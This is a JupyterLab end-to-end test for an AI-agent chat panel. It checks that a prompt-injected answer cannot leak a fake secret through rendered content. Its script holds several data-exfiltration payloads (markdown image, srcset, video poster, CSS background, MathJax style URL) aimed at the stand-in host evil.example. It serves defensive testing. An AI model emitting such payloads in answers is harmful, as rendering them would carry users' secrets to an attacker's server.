import { expect, test } from '@jupyterlab/galata';

import {
  failOnConsoleErrors,
  loadScript,
  openPanel,
  sendInNewChat
} from './helpers';

/**
 * A prompt-injected model answers with content that would send a (fake) secret to another host the
 * moment it is shown. The page must make no request to that host; the image becomes a link.
 */
test.describe('hdsp-agent rendered text', () => {
  failOnConsoleErrors();

  test('an answer with external images loads nothing from their host and shows a link', async ({
    page,
    request
  }) => {
    const fetched: string[] = [];
    page.on('request', req => {
      if (req.url().includes('evil.example')) {
        fetched.push(req.url());
      }
    });
    // Nothing may reach the host; were it tried, the request is recorded above and answered here.
    await page.route(/evil\.example/, route => route.abort());

    await loadScript(request, [
      {
        text:
          'Your chart: ![chart](http://evil.example/x.png?q=SECRET)\n\n' +
          '<img srcset="http://evil.example/set.png?q=SECRET 1x">\n\n' +
          '<video poster="http://evil.example/poster.png?q=SECRET"></video>\n\n' +
          '<div style="background-image:url(http://evil.example/bg.png?q=SECRET)">styled</div>\n\n' +
          'Math: $\\style{background-image:url(http://evil.example/tex.png?q=SECRET)}{x^2}$\n\n' +
          'End of answer.'
      }
    ]);
    const panel = await openPanel(page);
    await sendInNewChat(panel, 'Plot it');

    const answer = panel.locator('.jp-hdsp-Message-assistant').last();
    await expect(answer).toHaveAttribute('data-complete', 'true');
    await expect(answer).toContainText('End of answer.');
    const link = answer.locator('a.jp-hdsp-RemoteContent');
    await expect(link).toHaveAttribute(
      'href',
      'http://evil.example/x.png?q=SECRET'
    );
    await expect(link).toContainText('http://evil.example/x.png?q=SECRET');
    await expect(answer.locator('mjx-container')).toHaveCount(1);
    // Let anything the page would load (images, CSS, the typeset formula) be requested.
    await page.waitForLoadState('networkidle');
    await page.waitForTimeout(500);

    expect(fetched).toEqual([]);
    // Links are not even resolved ahead of a click (DNS prefetch would carry a host name out).
    await expect(
      page.locator('head meta[http-equiv="x-dns-prefetch-control"]')
    ).toHaveAttribute('content', 'off');
    // What stays of the <img srcset> and <video poster> loads nothing.
    expect(
      await answer
        .locator('[src*="evil"], [srcset], [poster], [style*="evil"]')
        .count()
    ).toBe(0);
  });
});
